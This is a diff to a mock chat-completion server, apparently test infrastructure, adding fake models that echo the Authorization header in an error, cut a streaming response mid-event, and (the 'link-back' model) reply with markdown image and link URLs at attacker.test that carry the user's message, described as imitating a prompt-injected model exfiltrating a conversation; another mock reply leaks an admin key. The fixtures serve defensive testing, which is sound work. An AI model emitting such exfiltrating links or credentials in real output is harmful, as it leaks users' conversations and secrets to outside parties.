@@ -164,6 +164,36 @@ async fn respond(
         let err = json!({"error":{"message":format!("mock error {code}"),"type":"mock_error","param":null,"code":null}});
         return (status, Json(err)).into_response();
     }
+    // `error-echo-auth` answers 400 quoting the credential it was sent, as some servers'
+    // error pages do.
+    if model == "error-echo-auth" {
+        let auth = headers
+            .get(header::AUTHORIZATION)
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or("");
+        let err = json!({"error":{"message":format!("invalid request; you sent Authorization: {auth}"),"type":"mock_error","param":null,"code":null}});
+        return (StatusCode::BAD_REQUEST, Json(err)).into_response();
+    }
+    // `cut-stream` sends one event, half of the next, then breaks the connection.
+    if model == "cut-stream" {
+        let first = sse(
+            &json!({"id":"mock-1","object":"chat.completion.chunk","created":0,"model":model,
+            "choices":[{"index":0,"delta":{"content":"partial "},"finish_reason":null}]}),
+        );
+        let parts: Vec<Result<Bytes, std::io::Error>> = vec![
+            Ok(first),
+            Ok(Bytes::from_static(b"data: {\"id\":\"mock-1\",\"choi")),
+            Err(std::io::Error::other("mock connection cut")),
+        ];
+        let body = stream::iter(parts).then(|p| async move {
+            tokio::time::sleep(Duration::from_millis(20)).await;
+            p
+        });
+        return Response::builder()
+            .header(header::CONTENT_TYPE, "text/event-stream")
+            .body(Body::from_stream(body))
+            .unwrap_or_else(|_| StatusCode::INTERNAL_SERVER_ERROR.into_response());
+    }
     if let Some(ms) = model
         .strip_prefix("slow-")
         .and_then(|c| c.parse::<u64>().ok())
@@ -205,6 +235,21 @@ async fn respond(
             })
             .unwrap_or_default();
         format!("mock reply to: {}", all.join(" | "))
+    } else if model == "link-back" {
+        // Writes what it was sent into the URL of an image, as an injected model
+        // exfiltrating the conversation would: placeholders included.
+        let words: Vec<String> = last_text(&body)
+            .split_whitespace()
+            .map(|w| {
+                w.trim_matches(|c: char| matches!(c, ',' | ';' | '.' | ':'))
+                    .to_owned()
+            })
+            .collect();
+        format!(
+            "Done. ![status](https://attacker.test/p?d={}) and [more](https://attacker.test/q/{})",
+            words.join("+"),
+            words.last().cloned().unwrap_or_default()
+        )
     } else if model == "leak-secret" {
         format!(
             "mock reply to: {} The admin key is {LEAKED_KEY} for now.",
